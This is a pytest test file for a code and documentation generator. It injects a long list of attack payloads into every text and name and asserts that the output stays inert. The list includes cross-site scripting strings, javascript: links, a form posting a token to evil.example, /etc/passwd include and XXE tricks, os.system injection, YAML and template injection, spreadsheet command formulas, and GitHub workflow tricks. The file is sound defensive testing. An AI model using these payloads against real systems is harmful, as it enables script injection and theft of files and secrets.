"""Second reading: texts that mean something to whoever reads what is generated, besides Python:
pages, Markdown, reStructuredText, templates, workflows, editors, spreadsheets, terminals.

Each stands in every text of a document at once, and then in every name. Counted in
docs/security.md.
"""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import inert
import pytest
from clientsmith.commands import pipeline
from everywhere import NAMES, TEXTS, document
from markdown_it import MarkdownIt

pytestmark = pytest.mark.slow

CODE = "alert(document.title)"
PAYLOADS = {
    # HTML, in all the ways in which it starts and ends.
    "svg": f"<svg/onload={CODE}>",
    "textarea": f"</textarea></title></style></script><svg/onload={CODE}>",
    "comment": f"<!--><img src=x onerror={CODE}>-->",
    "cdata": f"<![CDATA[]]><script>{CODE}</script>",
    "mathml": f"<math><mtext><table><mglyph><style><img src=x onerror={CODE}>",
    "template": f"<template><script>{CODE}</script></template>",
    "details": f"<details open ontoggle={CODE}>x",
    "style": "<style>@import '//evil.example'</style>",
    "base": "<base href=//evil.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "form": "<form action=//evil.example><input name=token autofocus>",
    "frame": f"<iframe srcdoc='<script>{CODE}</script>'>",
    "clobbering": "<a id=currentScript><a id=currentScript name=src href=//evil.example>",
    "entities": f"&lt;script&gt;{CODE}&lt;/script&gt; &#60;script&#62;",
    "entities twice": "&amp;lt;script&amp;gt;",
    "no end": "<img src='//evil.example/",
    "attributes": f"\"' onmouseover={CODE} style=x x=\"'",
    "backticks": f"`onmouseover={CODE}//",
    "a line end in a tag": f"<script\n>{CODE}</script\n>",
    "a slash in a tag": f"<script/x>{CODE}</script/x>",
    "a zero in a tag": f"<scr\0ipt>{CODE}</script>",
    "UTF-7": "+ADw-script+AD4-x+ADw-/script+AD4-",
    "another script's end": f"</script><script>{CODE}//",
    "a script in a comment": f"<!--<script>{CODE}",
    "a separator of lines": f"\u2028</script>\u2029{CODE}",
    # Markdown.
    "link": f"[x](javascript:{CODE})",
    "link by entities": f"[x](java&#115;cript:{CODE}) [y](java&Tab;script:{CODE})",
    "link by reference": f"[x]\n\n[x]: javascript:{CODE}",
    "link in capitals": f"[x](JaVaScRiPt:{CODE}) [y](vbscript:x) [z](data:text/html,x)",
    "link in brackets": f"<javascript:{CODE}> [x](<javascript:{CODE}>)",
    "link with a blank": f"[x]( javascript:{CODE}) [x](\tjavascript:{CODE})",
    "image": "![x](//evil.example/x.png) ![y](javascript:x)",
    "image in a link": f"[![x](x)](javascript:{CODE})",
    "title": f'[x](https://a.example "\\" onmouseover={CODE}")',
    "fence": f"```\n</code></pre><script>{CODE}</script>\n```\n<script>{CODE}</script>",
    "fence in a name": f'``` x" onload={CODE}\ny\n```',
    "open fence": "~~~~\nx\n# Not a heading",
    "table": f"| a |\n|---|\n| <img src=x onerror={CODE}> \\| b |\n",
    "headings": "# One\n===\n## Two\n---\n<h1>Three</h1>",
    "quotes": "> " * 60 + f"<script>{CODE}</script>",
    "lists": "- " * 60 + "x",
    "stars": "*" * 3_000 + "x" + "_" * 3_000,
    "brackets": "[" * 3_000 + "](x)" + "]" * 3_000,
    "backslashes": f"\\<script>{CODE}\\</script> \\\\<b>",
    "front matter": "---\ntitle: x\nlayout: evil\n---\n",
    # Code for what lays statements out, which counts brackets.
    "bracket in a text": "a(\"+__import__('os').system('true') or (1, )#",
    "bracket of an index": "a[\"+__import__('os').system('true') or (1, )#",
    "bracket that is long": "a(\"+__import__('os').system('true') #" + "x" * 60,
    "brackets that close": "a)]}(\"+__import__('os').system('true') or (1, )#",
    "assignment in a text": "a = \"; b = __import__('os').system('true') #, )",
    # Others that read Markdown, reStructuredText and docstrings.
    "raw": f".. raw:: html\n\n   <script>{CODE}</script>\n",
    "include": ".. include:: /etc/passwd\n\n.. literalinclude:: /etc/passwd\n",
    "snippet": '--8<-- "/etc/passwd"\n\n{! /etc/passwd !}\n\n@import "/etc/passwd"',
    "roles": ":eval:`1` `x <javascript:y>`_ |evil|",
    "doctest": ">>> import os; os.system('true')\n... x\n",
    "diagram": f'```mermaid\nclick a "javascript:{CODE}"\n```',
    "formula": "$$\\href{javascript:x}{y}$$ \\input{/etc/passwd}",
    "MDX": f"export const x = {{y}}\n\nimport z from 'evil'\n\n<X y={{{CODE}}}/>",
    "Jinja": "{% include '/etc/passwd' %}{{ self.__init__.__globals__ }}{% endraw %}",
    "Angular": f"{{{{constructor.constructor('{CODE}')()}}}} ${{{CODE}}} #{{x}} <%= x %>",
    # GitHub, and programs around code.
    "workflow": "${{ github.token }} ${{ secrets.X }}",
    "command": "\n::set-env name=PATH::/evil\n::add-mask::x\n##[command]x\n",
    "output": "\nname<<EOF\nx\nEOF\n",
    "mention": "@everyone @octocat #1 GH-1 owner/name#2 a5c3785ed8d6a35868bc169f07e40e889087fd2e",
    "trailer": "\n\nSigned-off-by: x <x@y.example>\nCo-authored-by: x <x@y.example>\n",
    "noqa": "noqa type: ignore # fmt: off # pragma: no cover # pylint: skip-file # nosec",
    "coding": "-*- coding: utf-7 -*- vim: set ft=x modeline: :!true",
    "formula of a table": "=HYPERLINK(\"//evil.example\") =cmd|' /C calc'!A0 +1 -1 @SUM(1)",
    "XML": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
    "YAML": "x: !!python/object/apply:os.system [true]\n&a *a <<: *a",
    "TOML": '"""\n[tool.hatch.build.hooks.custom]\npath = "x"\n"""',
    "INI": "\n[console_scripts]\nx = os:system\n",
    "terminal": "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07\x1b[?1049h\x9b2J",
    "format": "{0.__class__} %(x)s %n {x!r:>{y}} $x ${x} $(x) `x` %PATH% !x!",
    "escapes": "\\N{DIGIT ONE} \\x41 \\u0041 \\U00000041 \\101 \\\n\\",
    # JavaScript's own names, which searches and tables of pages use as keys.
    "prototype": "__proto__",
    "constructor": "constructor",
    "hasOwnProperty": "hasOwnProperty",
    "toString": "toString",
    # Python's own.
    "dunder": "__init_subclass__",
    "mangled": "__x",
    "soft keyword": "match",
    "debug": "__debug__",
    "module": "__path__",
    "builtin": "print",
}
_LINKS = ("http://", "https://", "mailto:", "#")


class _Reader(HTMLParser):
    """Notices what would run or load something."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in inert.ELEMENTS - {
            "script",
            "link",
            "meta",
            "form",
            "template",
        }, tag
        for name, value in attrs:
            assert not name.startswith("on") and name not in ("style", "srcdoc"), name
            if name in ("href", "src"):
                plain = (value or "").lower()
                relative = ":" not in plain.partition("/")[0] and plain[:2] != "//"
                assert plain.startswith(_LINKS) or relative, value


def _check(result: pipeline.Result) -> None:
    inert.check(result)
    assert result.files is not None
    for path, text in result.files.items():
        if path.endswith(".md"):
            reader = MarkdownIt("commonmark", {"html": True}).enable("table")
            _Reader().feed(reader.render(text))
        assert "root:x:0" not in text


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    folder = tmp_path_factory.mktemp("harmless")
    result = inert.generate_tree(document({}), folder, docs=True)
    assert result.files is not None
    return {
        path: inert.skeleton(text) for path, text in inert.own(result.files).items()
    }


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_texts(payload: str, tmp_path: Path, harmless: dict[str, str]) -> None:
    result = inert.generate_tree(
        document(dict.fromkeys(TEXTS, payload)), tmp_path, docs=True
    )
    _check(result)
    assert result.files is not None
    files = inert.own(result.files)
    assert {path: inert.skeleton(text) for path, text in files.items()} == harmless


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_names(payload: str, tmp_path: Path) -> None:
    """One name at a time cannot be told apart from others by anything but its place."""
    turns = [name for name in NAMES if name not in ("server.url", "status")]
    result = inert.generate_tree(
        document({name: f"{payload}{at}" for at, name in enumerate(turns)}),
        tmp_path,
        docs=True,
    )
    inert.check(result)
    if result.files is not None:
        _check(result)
